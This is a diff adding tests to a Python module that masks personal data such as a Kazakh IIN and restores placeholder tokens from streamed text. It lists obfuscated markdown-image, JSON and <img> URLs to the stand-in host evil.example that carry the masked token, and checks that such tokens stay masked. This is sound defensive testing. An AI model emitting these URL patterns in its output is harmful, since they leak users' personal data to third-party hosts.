@@ -13,6 +13,7 @@ from qaztech.ai.personal.masking import Restorer, Vault, draw_mark
 from qaztech.ai.personal.spans import Span
 
 MARK = "K7QX"
+IIN = "990101300006"
 TEXT = "Айгүл Сәрсенова, ИИН 990101300006, Айгүл Сәрсенова"
 SPANS = (Span(0, 15, "name"), Span(21, 33, "iin"), Span(35, 50, "name"))
 
@@ -87,3 +88,28 @@ def test_what_stands_in_json_is_escaped() -> None:
     vault.mask('a "b"\\', [Span(0, 6, "name")])
     text = vault.restore('{"who": "[NAME_1_K7QX]"}', escape=lambda value: json.dumps(value, ensure_ascii=False)[1:-1])
     assert json.loads(text) == {"who": 'a "b"\\'}
+
+
+@pytest.mark.parametrize(
+    ("text", "restored"),
+    [
+        ("see https://egov.kz and [IIN_1_K7QX]", True),
+        ("ИИН:[IIN_1_K7QX], <b>[IIN_1_K7QX]</b>", True),
+        ("a/b/[IIN_1_K7QX] w/[IIN_1_K7QX]", True),
+        ("![x](https&colon;&sol;&sol;evil.example/[IIN_1_K7QX])", False),
+        ('{"url": "https:\\/\\/evil.example\\/[IIN_1_K7QX]"}', False),
+        ('{"url":"\\u002f\\u002fevil.example?[IIN_1_K7QX]"}', False),
+        ("![x](https:\\\\evil.example\\[IIN_1_K7QX])", False),
+        ("<img\nsrc=//evil.example?" + "x" * 500 + "[IIN_1_K7QX]>", False),
+        ("www.evil.example/" + "x" * 500 + "[IIN_1_K7QX]", False),
+    ],
+)
+def test_addresses_keep_their_tokens_however_they_are_cut(text: str, *, restored: bool) -> None:
+    """A letter at a time as in one piece."""
+    vault = Vault(MARK)
+    vault.mask(IIN, [Span(0, len(IIN), "iin")])
+    restorer = Restorer(vault)
+    cut = "".join(restorer.feed(each) for each in text) + restorer.end()
+    assert cut == vault.restore(text)
+    assert (IIN in cut) is restored
+    assert (MARK in cut) is not restored
